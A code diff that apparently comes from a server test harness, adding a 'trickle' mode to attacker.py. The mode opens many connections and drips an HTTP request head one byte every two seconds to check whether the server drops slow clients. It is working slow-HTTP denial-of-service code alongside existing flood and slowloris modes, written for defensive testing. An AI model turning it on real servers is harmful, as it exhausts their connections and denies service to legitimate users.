@@ -5,6 +5,8 @@
     python attacker.py flood HOST PORT COUNT            # COUNT idle connections, held until stdin closes
     python attacker.py slowloris HOST PORT KIND         # a greeting (KIND=stream) or request head
                                                         # (KIND=http) at one byte per second
+    python attacker.py trickle HOST PORT COUNT PATH     # COUNT connections, each sending a GET
+                                                        # head for PATH a byte every 2 s
 
 Every outcome is one JSON line on stdout. The attacker only observes what the server does to
 it; the tests decide whether that is right. Payloads that would create CANARY if they were ever
@@ -265,6 +267,48 @@ def run_slowloris(host: str, port: int, kind: str) -> None:
          seconds=round(time.monotonic() - began, 1))
 
 
+TRICKLE_INTERVAL_S = 2.0
+TRICKLE_LIMIT_S = 90.0
+
+
+def run_trickle(host: str, port: int, count: int, path: str) -> None:
+    """Hold `count` connections with request heads that arrive a byte every 2 s (each read of the
+    server's gets a byte well within any per-read timeout); report how many the server closed
+    and the most bytes any connection got in."""
+    head = f"GET {path} HTTP/1.0\r\nhost: {host}\r\nauthorization: Bearer not-the-token\r\n\r\n".encode()
+    raise_descriptor_limit(count + 64)
+    socks: dict[socket.socket, int] = {}
+    for _ in range(count):
+        try:
+            socks[socket.create_connection((host, port), timeout=10)] = 0
+        except OSError:
+            pass
+    emit(event="opened", opened=len(socks))
+    began = time.monotonic()
+    closed = 0
+    most_sent = 0
+    while socks and time.monotonic() - began < TRICKLE_LIMIT_S:
+        for sock in list(socks):
+            sent = socks[sock]
+            try:
+                readable, _, _ = select.select([sock], [], [], 0)
+                if readable and not sock.recv(4096):
+                    raise ConnectionResetError("closed by the server")
+                sock.send(head[sent : sent + 1])
+            except OSError:
+                closed += 1
+                del socks[sock]
+                sock.close()
+                continue
+            socks[sock] = sent + 1
+            most_sent = max(most_sent, sent + 1)
+        time.sleep(TRICKLE_INTERVAL_S)
+    for sock in socks:
+        sock.close()
+    emit(attack="trickle", opened=closed + len(socks), closed_by_server=closed, most_bytes_sent=most_sent,
+         total=len(head), seconds=round(time.monotonic() - began, 1))
+
+
 def main(argv: list[str]) -> None:
     mode, host, port = argv[0], argv[1], int(argv[2])
     if mode == "frames":
@@ -275,6 +319,8 @@ def main(argv: list[str]) -> None:
         run_flood(host, port, int(argv[3]))
     elif mode == "slowloris":
         run_slowloris(host, port, argv[3])
+    elif mode == "trickle":
+        run_trickle(host, port, int(argv[3]), argv[4])
     else:
         raise SystemExit(f"unknown mode {mode!r}")
     emit(event="exit")
